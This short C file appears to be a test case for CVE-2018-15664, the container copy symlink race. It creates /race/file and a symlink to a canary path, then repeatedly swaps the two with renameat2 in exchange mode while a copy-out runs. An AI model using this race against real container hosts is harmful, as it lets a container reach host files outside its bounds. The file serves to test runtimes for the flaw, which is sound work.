/*
 * does: exchanges a file and a link to the machine's while the keeper reads it (CVE-2018-15664)
 * while: copy-out /race/file
 * time: 120
 */
int main(void) {
    mkdir("/race", 0755);
    close(open("/race/file", O_CREAT | O_RDWR, 0644));
    symlink(told("CANARY"), "/race/link");
    double end = seconds() + 3;
    while (seconds() < end) syscall(SYS_renameat2, AT_FDCWD, "/race/file", AT_FDCWD, "/race/link", 2);
    return 0;
}
